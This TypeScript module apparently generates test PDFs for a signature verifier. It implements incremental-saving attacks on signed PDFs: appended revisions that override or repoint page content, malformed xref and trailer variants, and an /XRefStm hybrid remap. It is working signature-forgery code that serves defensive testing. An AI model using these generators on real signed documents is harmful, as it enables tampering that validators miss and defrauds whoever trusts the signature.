import { PdfRef } from '../../../src/core/pdf/objects.js';
import { overrideContent, repointContent } from '../lib/content-change.js';
import type { AttackContext, Generator } from '../lib/context.js';
import { layoutOf } from '../lib/inspect.js';
import { appendRaw, objectBytes, type TailOptions } from '../lib/raw.js';

/**
 * Incremental saving attacks (CCS 2019 §4.2): a revision after the signed one that redefines page
 * content, well-formed or in the malformed variants lenient readers still accept.
 */
async function overridden(ctx: AttackContext, opts: TailOptions = {}, pick?: (sections: readonly { offset: number }[]) => TailOptions): Promise<Buffer> {
  const signed = await ctx.base('plain');
  const l = layoutOf(signed);
  return appendRaw(signed, [overrideContent(l)], { ...opts, ...pick?.(l.file.sections) }).bytes;
}

/**
 * ISO 32000-1 §7.5.8.4 hybrid file: a classic section that lists nothing, whose trailer's /XRefStm
 * names a cross-reference stream remapping a signed object. Readers that ignore /XRefStm see no change.
 */
async function hybridRemap(ctx: AttackContext): Promise<Buffer> {
  const signed = await ctx.base('plain');
  const l = layoutOf(signed);
  const forged = overrideContent(l);
  const lead = signed[signed.length - 1] === 0x0a ? '' : '\n';
  const objectAt = signed.length + lead.length;
  const obj = objectBytes(forged);
  const streamNum = l.file.size;
  const row = Buffer.alloc(7);
  row.writeUInt8(1, 0);
  row.writeUInt32BE(objectAt, 1);
  const streamAt = objectAt + obj.length;
  const stream = Buffer.concat([
    Buffer.from(`${streamNum} 0 obj\n<</Type /XRef /Size ${streamNum + 1} /W [1 4 2] /Index [${forged.num} 1] /Length 7>>\nstream\n`),
    row,
    Buffer.from('\nendstream\nendobj\n'),
  ]);
  const tableAt = streamAt + stream.length;
  const root = l.file.trailer.get('Root') as PdfRef;
  const table = `xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size ${streamNum + 1} /Root ${root.num} ${root.gen} R /Prev ${l.file.sections[0]!.offset} /XRefStm ${streamAt}>>\nstartxref\n${tableAt}\n%%EOF\n`;
  return Buffer.concat([signed, Buffer.from(lead), obj, stream, Buffer.from(table)]);
}

export const isaGenerators: Record<string, Generator> = {
  'isa-content-override': (ctx) => overridden(ctx),
  'isa-content-repoint': async (ctx) => {
    const signed = await ctx.base('plain');
    const l = layoutOf(signed);
    return appendRaw(signed, repointContent(l, l.file.size)).bytes;
  },
  'isa-xref-stream-revision': (ctx) => overridden(ctx, { xref: 'stream' }),
  'isa-no-xref-no-trailer': (ctx) => overridden(ctx, { xref: 'none', startxref: 'none' }),
  'isa-xref-without-trailer': (ctx) => overridden(ctx, { trailer: false }),
  'isa-startxref-into-signed-part': (ctx) => overridden(ctx, {}, (s) => ({ startxref: s[0]!.offset })),
  'isa-prev-skips-signed-revision': (ctx) => overridden(ctx, {}, (s) => ({ prev: s[1]!.offset })),
  'isa-hybrid-xrefstm-remap': hybridRemap,
};
